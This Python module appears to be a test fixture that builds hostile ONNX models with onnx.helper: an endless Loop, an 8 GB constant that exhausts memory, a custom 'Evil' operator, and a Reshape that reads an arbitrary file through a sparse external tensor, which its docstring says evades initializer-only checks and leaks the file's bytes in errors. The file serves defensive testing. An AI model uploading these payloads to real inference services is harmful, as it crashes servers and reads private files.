"""Tiny ONNX models an attacker would upload, built with onnx.helper: each checks as valid
ONNX, and each would take down a process that runs it unguarded."""

from __future__ import annotations

from onnx import TensorProto, helper

#: Every model here takes one float input of this shape (without the batch dimension).
INPUT = [4]


def _model(nodes: list, outputs: list | None = None,  # type: ignore[type-arg]
           name: str = "hostile") -> bytes:
    graph = helper.make_graph(
        nodes, name, [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, *INPUT])],
        outputs or [helper.make_tensor_value_info("output", TensorProto.FLOAT, [1, *INPUT])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return bytes(model.SerializeToString())


def endless_loop(trips: int = 2**62) -> bytes:
    """A `Loop` of `trips` iterations (2^62: for ever) passing the input through."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]),
         helper.make_node("Identity", ["v_in"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, *INPUT])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, *INPUT])])
    return _model([
        helper.make_node("Constant", [], ["trips"], value=helper.make_tensor(
            "t", TensorProto.INT64, [], [trips])),
        helper.make_node("Constant", [], ["cond"], value=helper.make_tensor(
            "c", TensorProto.BOOL, [], [True])),
        helper.make_node("Loop", ["trips", "cond", "input"], ["output"], body=body),
    ])


def huge_constant(size_bytes: int = 8 << 30) -> bytes:
    """A `ConstantOfShape` of `size_bytes` of float32 ones, summed into the output."""
    return _model([
        helper.make_node("Constant", [], ["shape"], value=helper.make_tensor(
            "s", TensorProto.INT64, [1], [size_bytes // 4])),
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=helper.make_tensor(
            "v", TensorProto.FLOAT, [1], [1.0])),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
        helper.make_node("Add", ["input", "total"], ["output"]),
    ])


def relu(variant: int = 0) -> bytes:
    """A harmless model: the next probe after an attack. Each `variant` has other bytes."""
    return _model([helper.make_node("Relu", ["input"], ["output"])], name=f"relu{variant}")


def file_reader(location: str, *, sparse: bool = True, elements: int = 2) -> bytes:
    """A `Reshape` of the input to a shape read from the file at `location` (an external
    tensor, stored sparse by default, which an initializer-only check misses): onnxruntime
    reads the file when it builds the session, and its error quotes the shape, the file's
    bytes as int64 numbers."""
    values = TensorProto(name="shape", data_type=TensorProto.INT64, dims=[elements],
                         data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"),
                       ("length", str(8 * elements))):
        values.external_data.add(key=key, value=value)
    graph = helper.make_graph(
        [helper.make_node("Reshape", ["input", "shape"], ["output"])], "reader",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, *INPUT])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, None)])
    if sparse:
        indices = helper.make_tensor("shape_indices", TensorProto.INT64, [elements],
                                     list(range(elements)))
        graph.sparse_initializer.append(helper.make_sparse_tensor(values, indices, [elements]))
    else:
        graph.initializer.append(values)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return bytes(model.SerializeToString())


def custom_domain(domain: str = "com.example.evil") -> bytes:
    """A node of an operator domain no runtime implements itself: what a custom-op library
    would register."""
    graph = helper.make_graph(
        [helper.make_node("Evil", ["input"], ["output"], domain=domain)], "custom",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, *INPUT])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, [1, *INPUT])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                    helper.make_opsetid(domain, 1)])
    model.ir_version = 8
    return bytes(model.SerializeToString())
